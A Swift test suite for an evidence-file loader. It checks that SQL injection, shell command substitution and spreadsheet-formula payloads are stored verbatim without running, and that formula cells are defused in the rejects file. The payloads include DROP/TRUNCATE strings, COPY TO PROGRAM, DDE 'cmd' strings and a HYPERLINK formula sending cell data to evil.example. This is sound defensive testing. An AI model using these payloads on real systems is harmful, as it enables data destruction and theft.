import Foundation
import Postgres
import Testing
import TestSupport

/// SQL, shell and spreadsheet-formula payloads in every text field of an evidence file (and in the file's
/// name): each is stored exactly as written, nothing runs, no table is touched, no file is created, and a
/// rejected row's payload is defused in the rejects file. (Filters of the query commands are covered by
/// the query module's tests.)
@Suite struct InjectionTests {
    static let marker = "pwned-\(getpid())-\(UUID().uuidString.prefix(8))"

    /// One payload per row, put in every free-text column of that row.
    static let payloads: [String] = [
        "x'); DROP TABLE qa.evidence; --",
        "Robert'); DELETE FROM qa.school WHERE ('1'='1",
        "1 OR 1=1; TRUNCATE qa.rating CASCADE; SELECT pg_sleep(30)",
        "'; COPY qa.evidence TO PROGRAM 'touch /tmp/\(marker)-copy'; --",
        "$(touch /tmp/\(marker)-dollar)",
        "`touch /tmp/\(marker)-backtick`",
        "a; touch /tmp/\(marker)-semicolon && echo done | sh",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\\. \\N end of COPY? tab\there \"quoted\" back\\\\slash {braces} NULL",
        "line one\r\nline two\n=1+1",
    ]

    /// Cohorts are a list split on `;`, `,` and `|`, and each must contain a letter: payloads that fit.
    static let cohortPayloads: [String] = [
        "x') DROP TABLE qa.evidence --",
        "$(touch /tmp/\(marker)-cohort)",
        "=HYPERLINK(\"http://evil.example\")",
        "@SUM(1+1)",
        "NULL",
        "a\"b\\c{d}",
        "' OR '1'='1",
    ]

    static let header = "evidence_id,school,school_urn,staff_id,staff_name,staff_role,observer,activity,subject,date,verbal_feedback_date,written_feedback_date,year_groups,cohorts,S1,S2,S3,S4,S5,S6,S7,S8,S9,S10,S11,S12,strengths,areas_for_development,next_steps,deep_dive_id"

    static func cell(_ value: String) -> String {
        guard value.contains(where: { $0 == "," || $0 == "\"" || $0 == "\r" || $0 == "\n" || $0 == "\r\n" }) else { return value }
        return "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    static func csvRow(_ p: String, cohort: String, s1: String = "G") -> String {
        ([p, p, "146884", p, p, p, p, "lesson_visit", p, "2023-03-14", "", "", "Y7", cohort + ";SEND", s1]
            + Array(repeating: "", count: 11) + [p, p, p, p]).map(cell).joined(separator: ",")
    }

    static func jsonRow(_ p: String, cohort: String) throws -> String {
        let object: [String: Any] = [
            "evidence_id": p, "school": p, "school_urn": "146884", "staff_id": p, "staff_name": p, "staff_role": p,
            "observer": p, "activity": "lesson_visit", "subject": p, "date": "2023-03-14", "year_groups": ["Y7"],
            "cohorts": [cohort, "SEND"], "ratings": ["1": "G"], "strengths": p, "areas_for_development": p,
            "next_steps": p, "deep_dive_id": p,
        ]
        return String(decoding: try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]), as: UTF8.self)
    }

    @Test func payloadsInEveryFieldAreStoredVerbatimAndNothingExecutes() throws {
        let folder = try RepositoryPaths.temporaryFolder("fault-injection")
        defer { try? FileManager.default.removeItem(at: folder) }
        let payloads = InjectionTests.payloads, cohorts = InjectionTests.cohortPayloads
        let rows = payloads.enumerated().map { InjectionTests.csvRow($1, cohort: cohorts[$0 % cohorts.count]) }
        // One more row, rejected for its rating, so its payloads go to the rejects file.
        let rejected = InjectionTests.csvRow("=HYPERLINK(\"http://evil.example/rejected\")", cohort: "Boys", s1: "=1+1")
        // The file's name carries a payload too; it is stored in qa.load_batch.
        let name = "evidence $(touch \(InjectionTests.marker)-name) ';`id`.csv"
        let csv = folder.appendingPathComponent(name).path
        try writeText(([InjectionTests.header] + rows + [rejected]).joined(separator: "\r\n") + "\r\n", to: csv)
        let jsonl = folder.appendingPathComponent("evidence.jsonl").path
        try writeText(try payloads.enumerated().map { try InjectionTests.jsonRow($1, cohort: cohorts[$0 % cohorts.count]) }
            .joined(separator: "\n") + "\n", to: jsonl)

        let db = try TestDatabase.create()
        let connection = try db.connect()
        let tables = try connection.count("SELECT count(*) AS n FROM pg_tables WHERE schemaname = 'qa'")
        let fromCSV = try runTool(["load", csv, "--database", db.conninfo])
        #expect(fromCSV.status == 65, "\(fromCSV.stderr.suffix(3000))")
        let fromJSON = try runTool(["load", jsonl, "--database", db.conninfo, "--source", "json-export"])
        #expect(fromJSON.status == 0, "\(fromJSON.stderr.suffix(3000))")

        for source in ["standards-tracker", "json-export"] {
            for (k, p) in payloads.enumerated() {
                let row = try connection.query("""
                    SELECT e.evidence_id, sc.name AS school, su.name AS subject, st.external_id, st.name AS staff_name,
                           st.role, e.observer, e.strengths, e.areas_for_development, e.next_steps, e.deep_dive_id,
                           array_to_json(e.cohorts)::text AS cohorts
                      FROM qa.evidence e JOIN qa.school sc USING (school_id)
                      JOIN qa.subject su USING (subject_id) JOIN qa.staff st USING (staff_id)
                     WHERE e.source = \(source) AND e.evidence_id = \(p)
                    """)
                try #require(row.rowCount == 1, "\(source): no record for payload \(k): \(p)")
                for column in ["evidence_id", "school", "subject", "external_id", "staff_name", "role", "observer",
                               "strengths", "areas_for_development", "next_steps", "deep_dive_id"] {
                    #expect(try row[0].decode(column, as: String.self) == p, "\(source) payload \(k), \(column)")
                }
                let stored = try row[0].decode("cohorts", as: String.self)
                let list = try JSONSerialization.jsonObject(with: Data(stored.utf8)) as? [String]
                #expect(list == [cohorts[k % cohorts.count], "SEND"], "\(source) payload \(k), cohorts: \(stored)")
            }
        }
        // Nothing ran: every table is there with the rows the files made, and no marker file was created.
        #expect(try connection.count("SELECT count(*) AS n FROM pg_tables WHERE schemaname = 'qa'") == tables)
        #expect(try connection.count("SELECT count(*) AS n FROM qa.evidence") == payloads.count * 2)
        #expect(try connection.count("SELECT count(*) AS n FROM qa.rating") == payloads.count * 2)
        #expect(try connection.count("SELECT count(*) AS n FROM qa.school") == payloads.count)
        #expect(try connection.count("SELECT count(*) AS n FROM qa.load_batch WHERE file_name = \(name)") == 1)
        let leftovers = [folder.path, "/tmp", FileManager.default.currentDirectoryPath].flatMap { directory in
            ((try? FileManager.default.contentsOfDirectory(atPath: directory)) ?? []).filter { $0.contains(InjectionTests.marker) && !$0.hasSuffix(".csv") }
        }
        #expect(leftovers.isEmpty, "\(leftovers)")

        // The rejected row's formula cells are defused (a leading ') in the file a person opens in Excel.
        let rejectsPath = folder.appendingPathComponent("evidence $(touch \(InjectionTests.marker)-name) ';`id`.rejects.csv").path
        let rejects = try String(contentsOfFile: rejectsPath, encoding: .utf8)
        #expect(rejects.contains("'=HYPERLINK(\"\"http://evil.example/rejected\"\")"), "\(rejects)")
        #expect(!rejects.contains(",=HYPERLINK") && !rejects.contains("\"=HYPERLINK"), "\(rejects)")
        #expect(rejects.contains(",'=1+1,"), "\(rejects)")
    }
}
